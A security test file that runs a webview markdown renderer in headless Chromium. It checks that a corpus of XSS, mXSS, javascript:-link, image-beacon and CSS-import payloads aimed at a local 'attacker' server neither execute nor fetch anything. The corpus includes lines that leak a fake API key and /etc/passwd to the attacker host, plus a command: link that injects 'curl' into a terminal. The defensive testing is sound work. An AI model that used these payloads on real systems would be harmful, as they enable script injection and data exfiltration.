// The markdown renderer in headless Chromium under the webview's real CSP, fed a corpus of
// attacks (streamed in small deltas and rendered in one shot): nothing runs, nothing is fetched
// from the "attacker" server, no link leaves through anything but the onLink callback.
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MARKDOWN_PIECES } from '../unit/markdown/markdownCorpus';
import { bundleForBrowser, launchBrowser, serveCspPage, startAttackerServer, type AttackerServer, type CspPageServer } from './browserHarness';

let browser: Browser;
let site: CspPageServer;
let attacker: AttackerServer;
let page: Page;
const cspViolations: string[] = [];

beforeAll(async () => {
  const script = await bundleForBrowser(fileURLToPath(new URL('./fixtures/rendererHarness.ts', import.meta.url)));
  const css = readFileSync(fileURLToPath(new URL('../../media/markdown.css', import.meta.url)), 'utf8');
  [browser, site, attacker] = await Promise.all([launchBrowser(), serveCspPage({ script, styles: { '/markdown.css': css } }), startAttackerServer()]);
  page = await browser.newPage();
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) cspViolations.push(message.text());
  });
  await page.goto(site.url);
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
});

afterAll(async () => {
  await browser?.close();
  await site?.close();
  await attacker?.close();
});

/** Attacks; every `ATTACKER` becomes the attacker server's URL. */
const PAYLOADS: Record<string, string> = {
  script: '<script>window.__pwned = "script"</script>\n\nafter',
  scriptInParagraph: 'text <script>window.__pwned = "inline script"</script> text',
  onerrorImg: '<img src="ATTACKER/onerror" onerror="window.__pwned = \'onerror\'">',
  onloadBody: '<body onload="window.__pwned = \'onload\'"><div onmouseover="window.__pwned = 1">hover</div>',
  svgOnload: '<svg onload="window.__pwned = \'svg\'"><circle r="5"/></svg>',
  svgImage: '<svg><image href="ATTACKER/svg-image" /><image xlink:href="ATTACKER/svg-xlink" /></svg>',
  svgUse: '<svg><use href="ATTACKER/sprite.svg#x" /></svg>',
  svgAnimate: '<svg><a><animate attributeName="href" values="javascript:window.__pwned=1"/><text y="20">click</text></a></svg>',
  javascriptLinks:
    '[md js](javascript:window.__pwned=1) [mixed](JaVaScRiPt:window.__pwned=1) [entity](&#106;avascript:window.__pwned=1) [tab](java\tscript:window.__pwned=1)\n\n<a href="javascript:window.__pwned=1">raw</a> <a href="&#x6A;avascript&colon;window.__pwned=1">encoded</a> <a href=" javascript:window.__pwned=1">space</a>',
  iframeSrcdoc: '<iframe srcdoc="<script>parent.__pwned = \'srcdoc\'</script><img src=ATTACKER/srcdoc>"></iframe>',
  iframeSrc: '<iframe src="ATTACKER/frame"></iframe><frame src="ATTACKER/frame2">',
  mathMxss: '<math><mtext><table><mglyph><style><img src="ATTACKER/mxss" onerror="window.__pwned = \'mxss\'">',
  noscriptMxss: '<noscript><p title="</noscript><img src=\'ATTACKER/noscript\' onerror=\'window.__pwned = 1\'>">',
  templateMxss: '<template><img src="ATTACKER/template" onerror="window.__pwned=1"></template><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.__pwned=1 src=ATTACKER/form-mxss>">',
  markdownImage: '![secret](ATTACKER/md-image?d=API_KEY_sk-123&file=%2Fetc%2Fpasswd)',
  referenceImage: 'Look: ![logo][logo] and ![][logo]\n\n[logo]: ATTACKER/ref-image?secret=1',
  lateReferenceImage: '![early][late]\n\nmore text\n\n[late]: ATTACKER/late-ref?token=abc',
  rawImg: '<img src="ATTACKER/raw-img?x=1" alt="raw">',
  imgSrcset: '<img srcset="ATTACKER/srcset 1x, ATTACKER/srcset2 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  picture: '<picture><source srcset="ATTACKER/picture-source"><img src="ATTACKER/picture-img" alt="p"></picture>',
  video: '<video poster="ATTACKER/poster" src="ATTACKER/video"><source src="ATTACKER/video-source"></video><audio src="ATTACKER/audio"></audio>',
  linkStylesheet: '<link rel="stylesheet" href="ATTACKER/style.css"><link rel="prefetch" href="ATTACKER/prefetch"><link rel="preload" as="image" href="ATTACKER/preload">',
  metaRefresh: '<meta http-equiv="refresh" content="0;url=ATTACKER/refresh">',
  styleAttribute: '<p style="background-image: url(ATTACKER/style-attr)">styled</p><div style="background:url(\'ATTACKER/style-attr2\')">x</div>',
  styleTag: '<style>@import url(ATTACKER/import.css); body { background: url(ATTACKER/style-tag) }</style>\n\ntext',
  tableBackground: '<table background="ATTACKER/table-bg"><tr><td background="ATTACKER/td-bg">x</td></tr></table>',
  commandLinks: '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20ATTACKER%2Fcmd%22%7D)\n\n<a href="command:workbench.action.reloadWindow">reload</a>',
  fileAndVscodeLinks: '[passwd](file:///etc/passwd) [ext](vscode://ms-vscode.x/install) [insiders](vscode-insiders://x) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  baseHref: '<base href="ATTACKER/base/">\n\n![rel](relative.png) [rel](relative.html)',
  form: '<form action="ATTACKER/form" method="post"><input name="a" value="b" autofocus onfocus="window.__pwned=1"><button formaction="ATTACKER/formaction">go</button></form>',
  objectEmbed: '<object data="ATTACKER/object"></object><embed src="ATTACKER/embed"><applet code="x"></applet>',
  inputImage: '<input type="image" src="ATTACKER/input-image"><isindex action="ATTACKER/isindex">',
  fenceWithHtml: '```html\n<img src="ATTACKER/in-code" onerror="window.__pwned=1">\n<script>window.__pwned=1</script>\n```',
  inlineCodeHtml: 'Use `<img src="ATTACKER/inline-code" onerror="window.__pwned=1">` carefully.',
  autolink: '<ATTACKER/autolink> and www.attacker.invalid/x',
  unclosedFenceThenHtml: '```\n<img src=ATTACKER/unclosed>',
  htmlComment: '<!-- <img src="ATTACKER/comment"> -->\n\n<!--><img src="ATTACKER/comment2" onerror="window.__pwned=1">-->',
  cssInSvgStyle: '<svg><style>@import "ATTACKER/svg-style.css";</style></svg>',
  dataImage: '![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)',
};

function payload(name: string): string {
  return PAYLOADS[name].replace(/ATTACKER/g, attacker.url);
}

interface DomReport {
  handlerAttributes: string[];
  fetchingAttributes: string[];
  forbiddenElements: string[];
  anchors: Array<{ href: string | null; text: string }>;
}

/** Everything in #out that could run code or load something. */
async function inspectOutput(): Promise<DomReport> {
  return (await page.evaluate(`(() => {
    const out = document.getElementById('out');
    const all = Array.from(out.querySelectorAll('*'));
    const handlerAttributes = [];
    const fetchingAttributes = [];
    for (const element of all) {
      for (const attribute of Array.from(element.attributes)) {
        if (/^on/i.test(attribute.name)) handlerAttributes.push(element.tagName + ' ' + attribute.name);
        if (['src', 'srcset', 'poster', 'background', 'style', 'data', 'action', 'formaction', 'xlink:href', 'srcdoc'].includes(attribute.name.toLowerCase())) {
          fetchingAttributes.push(element.tagName + ' ' + attribute.name + '=' + attribute.value);
        }
        if (attribute.name === 'href' && element.tagName !== 'A') fetchingAttributes.push(element.tagName + ' href=' + attribute.value);
      }
    }
    const forbidden = out.querySelectorAll('script, style, link, meta, base, iframe, frame, object, embed, applet, form, input, img, picture, source, video, audio, svg, math, image, use, template, noscript');
    return {
      handlerAttributes,
      fetchingAttributes,
      forbiddenElements: Array.from(forbidden).map((element) => element.tagName),
      anchors: Array.from(out.querySelectorAll('a')).map((a) => ({ href: a.getAttribute('href'), text: a.textContent })),
    };
  })()`)) as DomReport;
}

async function settle(): Promise<void> {
  // Give any load, error or timer a chance to fire before checking that none did.
  await page.evaluate('new Promise((resolve) => setTimeout(resolve, 150))');
}

async function clickEveryAnchor(): Promise<void> {
  const anchors = page.locator('#out a');
  const count = await anchors.count();
  for (let index = 0; index < count; index += 1) await anchors.nth(index).click({ force: true });
}

describe('markdown rendered in the webview', () => {
  for (const name of Object.keys(PAYLOADS)) {
    it(`runs nothing and fetches nothing for the ${name} payload, streamed or in one shot`, async () => {
      const markdown = payload(name);
      const hitsBefore = attacker.hits();
      const siteRequestsBefore = site.paths.length;
      const streamed = (await page.evaluate(`window.__markdown.stream(${JSON.stringify(markdown)}, 4, 3)`)) as string;
      await settle();
      const streamedReport = await inspectOutput();
      await page.evaluate('window.__posted = []');
      await clickEveryAnchor();
      const postedAfterClicks = (await page.evaluate('window.__posted')) as Array<{ type: string; href?: string }>;
      const oneShot = (await page.evaluate(`window.__markdown.oneShot(${JSON.stringify(markdown)})`)) as string;
      await settle();
      const oneShotReport = await inspectOutput();

      expect(oneShot).toBe(streamed);
      for (const report of [streamedReport, oneShotReport]) {
        expect(report.handlerAttributes).toEqual([]);
        expect(report.fetchingAttributes).toEqual([]);
        expect(report.forbiddenElements).toEqual([]);
        for (const anchor of report.anchors) if (anchor.href !== null) expect(anchor.href).toMatch(/^https?:\/\//);
      }
      expect(await page.evaluate('window.__pwned')).toBeUndefined();
      expect(page.url()).toBe(site.url);
      // Only http(s) URLs ever reach the extension, and only through a click.
      for (const message of postedAfterClicks) {
        expect(message.type).toBe('openLink');
        expect(message.href).toMatch(/^https?:\/\//);
      }
      expect(attacker.hits() - hitsBefore, `attacker saw: ${attacker.paths.join(', ')}`).toBe(0);
      expect(site.paths.slice(siteRequestsBefore), 'the page itself loaded something').toEqual([]);
    });
  }

  it('ends streaming with the same DOM as a one-shot render in Chromium for random documents, raw HTML included', async () => {
    const documents = fc.sample(
      fc.tuple(fc.array(fc.constantFrom(...MARKDOWN_PIECES), { maxLength: 14 }), fc.array(fc.nat(), { maxLength: 25 })),
      { numRuns: Number(process.env.MARKDOWN_BROWSER_FUZZ_RUNS ?? 250), seed: Number(process.env.MARKDOWN_BROWSER_FUZZ_SEED ?? 4242) },
    );
    const mismatches: string[] = [];
    for (const [pieces, rawCuts] of documents) {
      const markdown = pieces.join('');
      const cuts = [...new Set(rawCuts.map((cut) => cut % (markdown.length + 1)))].sort((a, b) => a - b);
      const streamed = await page.evaluate(`window.__markdown.streamWithManualFrames(${JSON.stringify(markdown)}, ${JSON.stringify(cuts)})`);
      const oneShot = await page.evaluate(`window.__markdown.oneShot(${JSON.stringify(markdown)})`);
      if (streamed !== oneShot) mismatches.push(JSON.stringify(markdown));
    }
    expect(mismatches).toEqual([]);
  });

  it('shows every image as a link with its alt text and URL instead of loading it', async () => {
    await page.evaluate(`window.__markdown.oneShot(${JSON.stringify(payload('markdownImage') + '\n\n' + payload('referenceImage'))})`);
    const placeholders = await page.locator('#out a.cw-image-link').allTextContents();
    expect(placeholders).toEqual([
      `secret ${attacker.url}/md-image?d=API_KEY_sk-123&file=%2Fetc%2Fpasswd`,
      `logo ${attacker.url}/ref-image?secret=1`,
      `${attacker.url}/ref-image?secret=1`,
    ]);
    expect(await page.locator('#out img').count()).toBe(0);
  });

  it('posts openLink for an http(s) link and nothing for command:, file: or vscode: links', async () => {
    await page.evaluate(`window.__markdown.oneShot(${JSON.stringify('[site](https://example.com/docs)\n\n' + payload('commandLinks') + '\n\n' + payload('fileAndVscodeLinks'))})`);
    await page.evaluate('window.__posted = []');
    await clickEveryAnchor();
    expect(await page.evaluate('window.__posted')).toEqual([{ type: 'openLink', href: 'https://example.com/docs' }]);
    expect(page.url()).toBe(site.url);
  });

  it('renders code-block buttons that report the code, under the CSP', async () => {
    await page.evaluate(`window.__markdown.stream(${JSON.stringify('```ts\nconst x = 1;\n```\n')}, 4, 1)`);
    await page.evaluate('window.__posted = []');
    await page.locator('#out button[title="Insert at Cursor"]').click();
    expect(await page.evaluate('window.__posted')).toEqual([{ type: 'codeAction', action: 'insert', code: 'const x = 1;', language: 'ts' }]);
    expect(await page.locator('#out code.hljs .hljs-keyword').first().textContent()).toBe('const');
  });

  it('blocks injected inline scripts, handlers and off-origin loads by CSP even if the sanitizer were bypassed', async () => {
    const hitsBefore = attacker.hits();
    const violationsBefore = cspViolations.length;
    await page.evaluate(`(() => {
      document.addEventListener('securitypolicyviolation', (event) => { window.__violations = (window.__violations || 0) + 1; });
      const a = ${JSON.stringify(attacker.url)};
      document.body.insertAdjacentHTML('beforeend',
        '<img src="' + a + '/csp-img" onerror="window.__pwned = 1">' +
        '<img src="x" onerror="window.__pwned = 2">' +
        '<div style="background:url(' + a + '/csp-style-attr)">x</div>' +
        '<link rel="stylesheet" href="' + a + '/csp-link.css">' +
        '<iframe src="' + a + '/csp-frame"></iframe>' +
        '<a id="js-link" href="javascript:window.__pwned = 3">js</a>');
      const script = document.createElement('script');
      script.textContent = 'window.__pwned = 4';
      document.body.append(script);
      const external = document.createElement('script');
      external.src = a + '/csp-script.js';
      document.body.append(external);
      const style = document.createElement('style');
      style.textContent = 'body { background: url(' + a + '/csp-style-tag) }';
      document.head.append(style);
      fetch(a + '/csp-fetch').catch(() => {});
      new Image().src = a + '/csp-new-image';
    })()`);
    await page.locator('#js-link').click();
    await page.evaluate('new Promise((resolve) => setTimeout(resolve, 300))');
    expect(await page.evaluate('window.__pwned')).toBeUndefined();
    expect(attacker.hits() - hitsBefore, `attacker saw: ${attacker.paths.join(', ')}`).toBe(0);
    expect((await page.evaluate('window.__violations')) as number).toBeGreaterThan(0);
    expect(cspViolations.length).toBeGreaterThan(violationsBefore);
  });
});
